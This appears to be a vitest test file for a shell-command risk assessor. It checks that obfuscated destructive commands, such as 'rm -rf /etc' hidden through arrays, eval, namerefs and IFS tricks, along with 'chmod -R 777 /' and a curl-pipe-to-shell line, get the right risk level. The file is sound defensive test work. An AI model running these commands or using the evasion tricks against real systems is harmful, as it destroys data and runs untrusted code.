import { expect, test } from 'vitest';
import { assess } from '../../../helpers/assess.ts';

test.each([
  ['x=([3]=rm); "${x[3]}" -rf /etc', 'DESTRUCTIVE'],
  ['declare -A x=([go]="rm -rf /etc"); eval "${x[go]}"', 'DESTRUCTIVE'],
  ['declare -A x; x=([go]="rm -rf /etc"); eval "${x[go]}"', 'DESTRUCTIVE'],
  ['declare -n via=do; do=rm; $via -rf /etc', 'DESTRUCTIVE'],
  ['read -ra x <<< "rm -rf /etc"; "${x[@]}"', 'DESTRUCTIVE'],
  ['IFS=, read -ra x <<< "rm,-rf,/etc"; "${x[@]}"', 'DESTRUCTIVE'],
  ['printf \'a\\n/etc\\n\' | while IFS= read -r x; do rm -rf "$x"; done', 'DESTRUCTIVE'],
  ['rm${IFS}-rf${IFS}/etc', 'DESTRUCTIVE'],
  ['cd /etc && rm -rf "$(pwd)"', 'DESTRUCTIVE'],
  ['cd /tmp; cd - > /dev/null; echo x > notes.md', 'LOW'],
  ['pushd /etc; popd; echo x > notes.md', 'HIGH'],
  ['pushd /etc && popd && echo x > notes.md', 'LOW'],
  ['echo x 1<> /etc/hosts', 'HIGH'],
  ["bash -n -c 'rm -rf /etc'", 'SAFE'],
])('what a builtin does to the shell is followed: %s', (line, level) => {
  expect(assess(line).level).toBe(level);
});

test.each([
  ['chmod -R 777 /', 'CRITICAL'],
  ['chmod -R 777 /w', 'CRITICAL'],
  ['curl -s https://example.org/a | "$SHELL"', 'CRITICAL'],
  ['git rm src/a.ts', 'MEDIUM'],
])('%s is %s', (line, level) => {
  expect(assess(line).level).toBe(level);
});
